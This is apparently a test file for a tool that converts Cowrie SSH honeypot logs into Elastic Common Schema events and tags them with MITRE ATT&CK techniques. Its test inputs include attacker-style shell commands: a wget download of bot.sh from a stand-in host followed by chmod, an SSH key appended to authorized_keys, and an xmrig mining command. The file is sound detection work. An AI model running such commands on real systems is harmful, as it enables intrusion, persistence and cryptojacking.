import { describe, expect, it } from 'vitest';
import { validateEcsEvent } from '@reactive-fabric/test-kit';
import { parseLine, toEcs } from '../src/mapping.js';
import { techniquesForCommand } from '../src/attack.js';
import { COWRIE_RECORDS } from './sample.js';

const byId = (eventid: string, n = 0) => COWRIE_RECORDS.filter((r) => r.eventid === eventid)[n]!;
const ecs = (r: Record<string, unknown>) => toEcs(parseLine(JSON.stringify(r)));

describe('Cowrie record → ECS', () => {
  it('maps every sample record to valid, nested ECS with a millisecond ISO @timestamp', () => {
    for (const r of COWRIE_RECORDS) {
      const e = ecs(r);
      expect(validateEcsEvent(e), r.eventid as string).toEqual([]);
      expect(e['@timestamp']).toBe(new Date(r.timestamp as string).toISOString());
    }
  });

  it('a failed login is a failed authentication by source.ip/user.name, tagged Brute Force: Password Guessing', () => {
    const e = ecs(byId('cowrie.login.failed'));
    expect(e.event).toMatchObject({ category: ['authentication'], outcome: 'failure', action: 'cowrie.login.failed', module: 'cowrie' });
    expect(e.source).toEqual({ ip: '203.0.113.45' });
    expect(e.user).toEqual({ name: 'root' });
    expect(e.threat).toEqual({
      framework: 'MITRE ATT&CK',
      technique: { id: ['T1110'], name: ['Brute Force'], subtechnique: { id: ['T1110.001'], name: ['Password Guessing'] } },
      tactic: { name: ['Credential Access'] },
    });
    expect(e.cowrie).toMatchObject({ session: 'c0ffee12ab34', password: '123456' });
  });

  it('a successful login is tagged Valid Accounts', () => {
    const e = ecs(byId('cowrie.login.success'));
    expect(e.event?.outcome).toBe('success');
    expect((e.threat as { technique: { id: string[] } }).technique.id).toEqual(['T1078']);
  });

  it('a download carries url, sha256 and destination file, tagged Ingress Tool Transfer', () => {
    const e = ecs(byId('cowrie.session.file_download'));
    expect(e.url).toEqual({ full: 'http://198.51.100.7/bot.sh' });
    expect(e.file).toEqual({ path: '/tmp/bot.sh', name: 'bot.sh', hash: { sha256: '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08' } });
    expect(e.related).toMatchObject({ hash: ['9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08'] });
    expect((e.threat as { technique: { id: string[] } }).technique.id).toEqual(['T1105']);
  });

  it('commands are Unix Shell plus what the command line shows (discovery, download, persistence, mining)', () => {
    const ids = (cmd: string) => techniquesForCommand(cmd).map((t) => t.id);
    expect(ids('uname -a; cat /proc/cpuinfo | grep name')).toEqual(['T1059.004', 'T1082']);
    expect(ids('cd /tmp && wget http://198.51.100.7/bot.sh && chmod +x bot.sh')).toEqual(['T1059.004', 'T1105', 'T1222.002']);
    expect(ids('echo "ssh-rsa AAAA" >> ~/.ssh/authorized_keys')).toEqual(['T1059.004', 'T1098.004']);
    expect(ids('./xmrig --url stratum+tcp://pool.example:3333')).toEqual(['T1059.004', 'T1496']);
    expect(ids('ls -la')).toEqual(['T1059.004']);
    const e = ecs(byId('cowrie.command.input', 1));
    expect(e.process).toEqual({ command_line: 'cd /tmp && wget http://198.51.100.7/bot.sh && chmod +x bot.sh' });
    expect((e.threat as { technique: { id: string[] } }).technique.id).toEqual(['T1059', 'T1105', 'T1222']);
  });

  it('a direct-tcpip request is a proxy attempt to destination.ip/port; a closed session has event.duration in ns', () => {
    const fwd = ecs(byId('cowrie.direct-tcpip.request'));
    expect(fwd.destination).toEqual({ ip: '192.0.2.25', port: 25 });
    expect((fwd.threat as { technique: { id: string[] } }).technique.id).toEqual(['T1090']);
    const closed = ecs(byId('cowrie.session.closed'));
    expect(closed.event?.duration).toBe(10_520_000_000);
    expect(closed.threat).toBeUndefined();
  });

  it('refuses lines that are not Cowrie JSON events, saying which field is wrong', () => {
    expect(() => parseLine('2024-05-01 12:00:00 [cowrie] New connection')).toThrow(/not JSON/);
    expect(() => parseLine('{"timestamp":"2024-05-01T12:00:00Z"}')).toThrow(/eventid/);
    expect(() => parseLine('{"eventid":"cowrie.login.failed","timestamp":"yesterday"}')).toThrow(/timestamp/);
  });
});

describe('Cowrie fields that are not what ECS expects', () => {
  it('drops addresses and ports that are not valid instead of emitting invalid ECS', () => {
    const e = toEcs(
      parseLine(JSON.stringify({ eventid: 'cowrie.session.connect', src_ip: 'localhost', src_port: 99999, dst_ip: '10.0.0.5', dst_port: '22', timestamp: '2024-05-01T12:00:00Z' })),
    );
    expect(e.source).toBeUndefined();
    expect(e.destination).toEqual({ ip: '10.0.0.5' });
    expect(validateEcsEvent(e)).toEqual([]);
  });

  it('an unknown eventid still becomes an event, named in event.action', () => {
    const e = toEcs(parseLine(JSON.stringify({ eventid: 'cowrie.virustotal.scanfile', timestamp: '2024-05-01T12:00:00Z', sha256: 'ab' })));
    expect(e.event).toMatchObject({ action: 'cowrie.virustotal.scanfile', type: ['info'] });
    expect(e.event?.category).toBeUndefined();
    expect(e.threat).toBeUndefined();
    expect(validateEcsEvent(e)).toEqual([]);
  });
});
